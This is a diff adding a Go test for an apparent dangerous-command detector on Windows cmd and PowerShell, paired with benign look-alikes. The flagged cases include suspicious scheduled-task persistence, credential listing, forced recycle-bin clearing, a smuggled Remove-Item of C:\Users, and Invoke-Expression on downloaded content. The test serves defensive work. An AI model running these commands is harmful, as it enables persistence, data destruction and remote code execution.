@@ -148,3 +148,37 @@ func TestAgedOutPruning(t *testing.T) {
 		`find /opt/app/tmp -type f -mmin +120 -delete`,
 	})
 }
+
+func TestWindowsOwnTasksAndPrompts(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`schtasks /create /tn Sync /tr "C:\Users\dev\AppData\Local\s.exe" /sc daily`, CategoryPersistence, "win-scheduled-task-suspicious", LevelHigh},
+		{`schtasks /create /tn Sync /tr "cmd /c C:\tools\s.bat" /sc daily`, CategoryPersistence, "win-scheduled-task-suspicious", LevelHigh},
+		{`schtasks /create /tn Sync /tr C:\tools\s.bat /sc daily /ru SYSTEM`, CategoryPersistence, "win-scheduled-task-suspicious", LevelHigh},
+		{`cmdkey /list`, CategoryExfiltration, "win-list-credentials", LevelModerate},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`schtasks /create /tn "Nightly build" /tr "D:\repos\shop\tools\nightly.cmd" /sc daily /st 02:00`,
+		`cmdkey /list:TERMSRV/build01`,
+	})
+	checkDanger(t, d, ps, []dangerCase{
+		{`Clear-RecycleBin -Force`, CategoryFileDelete, "win-recycle-bin", LevelHigh},
+		{`Clear-RecycleBin -DriveLetter C -Confirm:$false`, CategoryFileDelete, "win-recycle-bin", LevelHigh},
+		{`Register-ScheduledTask -TaskName Up -Trigger (New-ScheduledTaskTrigger -Daily -At 3am) -Action (New-ScheduledTaskAction -Execute "$env:APPDATA\u.exe")`, CategoryPersistence, "", LevelModerate},
+		{`Get-Thing -Tag @{a='b'; c=(Remove-Item -Recurse -Force C:\Users)}`, CategoryFileDelete, "", LevelCritical},
+		{`Invoke-Expression (& curl.exe -s https://example.com/init)`, "", "", LevelHigh},
+		{`& ([scriptblock]::Create((Get-Content C:\Users\Public\x.ps1 -Raw)))`, "", "", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`Clear-RecycleBin -DriveLetter E`,
+		`Register-ScheduledTask -TaskName Mirror -Trigger (New-ScheduledTaskTrigger -Weekly -DaysOfWeek Monday -At 8am) -Action (New-ScheduledTaskAction -Execute 'robocopy' -Argument 'D:\src E:\mirror /MIR')`,
+		`Get-AzVM -Tag @{team='web'; env='dev'} | Select-Object Name`,
+		`Invoke-Expression (& zoxide init powershell | Out-String)`,
+		`& ([scriptblock]::Create((Get-Content .\tools\build.ps1 -Raw)))`,
+		`git config core.sshCommand "ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes"`,
+	})
+	checkSafe(t, d, corpusContext, []string{`rm -f data/test.sqlite`})
+	checkDanger(t, d, corpusContext, []dangerCase{{`rm -f data/orders.db`, CategoryFileDelete, "rm-workdir-source", LevelModerate}})
+}
